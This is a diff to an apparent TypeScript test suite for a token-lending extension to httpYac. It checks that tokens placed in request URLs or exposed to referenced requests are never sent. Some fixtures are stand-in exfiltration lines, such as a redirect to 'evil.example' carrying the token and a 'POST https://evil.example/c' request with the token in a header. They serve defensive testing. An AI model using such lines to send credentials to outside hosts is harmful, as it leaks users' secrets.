@@ -22,6 +22,8 @@ describe('sending with a fresh token', () => {
   let scrubs: number;
   let tokenType: 'Bearer' | 'DPoP';
   let meanwhile: () => void | Promise<void>;
+  /** As httpYac does, with us plugged in. */
+  let asksForTokens: boolean;
 
   beforeEach(() => {
     text = `@host = https://api.example.com\n### One\nGET {{host}}/me\nAuthorization: Bearer ${demo}\n`;
@@ -32,6 +34,7 @@ describe('sending with a fresh token', () => {
     scrubs = 0;
     tokenType = 'Bearer';
     meanwhile = () => undefined;
+    asksForTokens = false;
   });
 
   const document = {
@@ -43,7 +46,8 @@ describe('sending with a fresh token', () => {
     lineAt: (line: number) => ({ text: text.split('\n')[line] ?? '' }),
   } as unknown as TextDocument;
 
-  const profiles = { demo: good, other: good, 'a.b': good, 'a-b': good };
+  const query = { ...good, tokenQueryParameter: 'access_token' };
+  const profiles = { demo: good, query, other: good, 'a.b': good, 'a-b': good };
   const shared = { Demo: good, 'TEAM 1': good, 'team-1': good, team: good };
   const send = (line = 2) =>
     sendFresh(
@@ -63,7 +67,7 @@ describe('sending with a fresh token', () => {
         },
         findNeighbour: () =>
           Promise.resolve({
-            asksForTokens: false,
+            asksForTokens,
             send: (_, at) =>
               new Promise((end) => sent.push({ line: at, demo: holder.env.VALET_KEY_DEMO, end })),
           }),
@@ -204,6 +208,68 @@ describe('sending with a fresh token', () => {
       sent.at(-1)?.end();
       await sending;
     }
+  });
+
+  it('L16: sends no token in a URL but as the parameter that its profile says, and says what to write', async () => {
+    const of = (name: string) => `{{$processEnv VALET_KEY_${name}}}`;
+    for (const written of [
+      `GET https://api.example.com/redirect?to=https://evil.example/%3Ft=${demo}`,
+      `GET https://api.example.com/me?access_token=${demo}`,
+      `GET https://api.example.com/me\n  ?page=1\n  &t=${demo}`,
+      `@t = ${demo}\nGET https://api.example.com/{{t}}`,
+      `@t = ${demo}\nGET https://api.example.com/?t={{%t}}`,
+      `GET {{$dotenv HOST}}/${demo}`,
+      `GET https://api.example.com/to/${of('QUERY')}`,
+      `GET https://api.example.com/?access_token=${of('QUERY')}x`,
+      `@base = https://api.example.com/?to=https://evil.example/\nGET {{base}}?access_token=${of('QUERY')}`,
+      `curl https://api.example.com/?access_token=${demo}`,
+    ]) {
+      text = `${written}\nAuthorization: Bearer ${demo}\n`;
+      const failure = await failureOf(send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line))));
+      const name = written.includes('QUERY') ? 'query' : 'demo';
+      assert.equal(
+        failure.message,
+        `The token of “${name}” stands in the address of this request, and addresses end up in logs and histories. It was not sent.`,
+        written,
+      );
+      assert.ok(failure.hint?.startsWith(`Write “Authorization: Bearer ${of(name.toUpperCase())}” instead.`));
+    }
+    assert.deepEqual([asked, sent], [[], []]);
+    for (const written of [
+      `GET https://api.example.com/?page=1&access_token=${of('QUERY')}&x=y HTTP/1.1`,
+      `@t = ${of('QUERY')}\nGET https://api.example.com/?access_token={{t}}`,
+      `GET {{$dotenv HOST}}/?access_token=${of('QUERY')} HTTP/1.1`,
+      `GET /me?access_token=${of('QUERY')}`,
+      `curl https://api.example.com/?access_token=${of('QUERY')} -H "X: ${demo}"`,
+    ]) {
+      text = `${written}\n`;
+      const sending = send(text.split('\n').findIndex((line) => /^(?:GET|curl)/.test(line)));
+      await settled();
+      sent.at(-1)?.end();
+      assert.equal(await sending, 'sent', written);
+    }
+  });
+
+  it('G8: lends nothing to httpYac, which asks about every request that it sends, one that is named (# @ref) too', async () => {
+    asksForTokens = true;
+    tokenType = 'DPoP';
+    const evil = `# @name evil\nPOST https://evil.example/c\nX: ${demo}`;
+    for (const placeholder of [`Bearer ${demo}`, 'Bearer {{$auth.token("demo")}}', 'valetkey demo']) {
+      text = `# @ref evil\nGET https://api.example.com/me\nAuthorization: ${placeholder}\n\n###\n${evil}\n`;
+      const { env } = holder;
+      const sending = send(1);
+      await settled();
+      assert.deepEqual([sent.length, sent[0]?.line, sent[0]?.demo], [1, 1, undefined], placeholder);
+      assert.equal(holder.env, env);
+      sent.pop()?.end();
+      assert.equal(await sending, 'sent');
+    }
+    assert.deepEqual(asked, [], 'it asks itself, and about where it really goes');
+    text = 'GET https://api.example.com/me\nAuthorization: Bearer {{$processEnv HOME}}\n';
+    assert.equal(await send(0), 'no_placeholder');
+    text = text.replace('HOME', 'VALET_KEY_GONE');
+    assert.match((await failureOf(send(0))).message, /^No usable profile has the variable VALET_KEY_GONE/);
+    assert.deepEqual(sent, []);
   });
 
   it('R7: says what stands in the way: no placeholder, no profile, two profiles, a bound token', async () => {
